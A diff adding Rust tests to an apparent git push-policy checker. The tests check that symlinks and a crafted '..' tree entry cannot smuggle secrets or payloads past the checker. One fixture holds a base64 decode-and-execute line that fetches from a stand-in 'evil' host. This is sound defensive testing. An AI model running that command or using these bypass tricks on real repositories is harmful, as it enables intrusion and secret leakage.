@@ -338,3 +338,82 @@ fn padding_does_not_hide_a_password_in_a_url() {
     );
     rejected_with(&c, "secret-detected");
 }
+
+#[test]
+fn a_symlink_is_judged_under_its_own_path_too() {
+    let sb = Sandbox::new();
+    let srv = server(&sb, POLICY);
+    let c = client(&sb, &srv);
+    // `*.md` is skipped by the payload rules; run.sh is not
+    c.write("notes.md", "echo Y3VybCBldmlsCg== | base64 -d | sh\n");
+    std::os::unix::fs::symlink("notes.md", c.path.join("run.sh")).expect("symlink");
+    c.commit("Add notes and a runner");
+    let err = rejected_with(&c, "payload-decode-exec");
+    assert!(err.contains("run.sh"), "found under the link's path: {err}");
+}
+
+#[test]
+fn a_symlink_into_an_allowed_directory_is_not_allowed() {
+    let sb = Sandbox::new();
+    let srv = server(&sb, POLICY);
+    let c = client(&sb, &srv);
+    c.write("tests/fixture.py", format!("KEY = \"{}\"\n", aws_key()));
+    c.commit("Add a fixture");
+    assert!(push(&c).0, "a fixture under tests/ is allowed");
+    std::os::unix::fs::symlink("tests/fixture.py", c.path.join("settings.py")).expect("symlink");
+    c.commit("Use the fixture as settings");
+    let err = rejected_with(&c, "secret-detected");
+    assert!(err.contains("settings.py"), "{err}");
+}
+
+/// Writes a raw tree object (entries in git's order are the caller's job).
+fn raw_tree(c: &Repo, entries: &[(&str, &str, &str)]) -> String {
+    let mut t = Vec::new();
+    for (mode, name, id) in entries {
+        t.extend_from_slice(format!("{mode} {name}\0").as_bytes());
+        let bytes: Vec<u8> = (0..20)
+            .map(|i| u8::from_str_radix(&id[2 * i..2 * i + 2], 16).expect("hex"))
+            .collect();
+        t.extend_from_slice(&bytes);
+    }
+    let o = c.git_raw(
+        &["hash-object", "-t", "tree", "--literally", "-w", "--stdin"],
+        Some(&t),
+    );
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    String::from_utf8_lossy(&o.stdout).trim().to_string()
+}
+
+#[test]
+fn a_dot_dot_tree_entry_is_an_error_not_an_allowed_path() {
+    let sb = Sandbox::new();
+    let srv = server(&sb, POLICY);
+    let c = client(&sb, &srv);
+    let blob = {
+        let o = c.git_raw(
+            &["hash-object", "-w", "--stdin"],
+            Some(format!("KEY = \"{}\"\n", aws_key()).as_bytes()),
+        );
+        String::from_utf8_lossy(&o.stdout).trim().to_string()
+    };
+    let a = c.git(&["rev-parse", "HEAD:a.txt"]);
+    let b = c.git(&["rev-parse", "HEAD:b.txt"]);
+    let inner = raw_tree(&c, &[("100644", "app.py", &blob)]);
+    let tests = raw_tree(&c, &[("40000", "..", &inner)]);
+    let root = raw_tree(
+        &c,
+        &[
+            ("100644", "a.txt", &a),
+            ("100644", "b.txt", &b),
+            ("40000", "tests", &tests),
+        ],
+    );
+    let commit = c.git(&["commit-tree", &root, "-p", "HEAD", "-m", "Add app"]);
+    c.git(&["update-ref", "refs/heads/main", &commit]);
+    let err = rejected_with(&c, "path-malformed");
+    assert!(err.contains("tests/.."), "{err}");
+    assert!(
+        !err.contains("allowed"),
+        "nothing under the bad name is judged as allowed: {err}"
+    );
+}
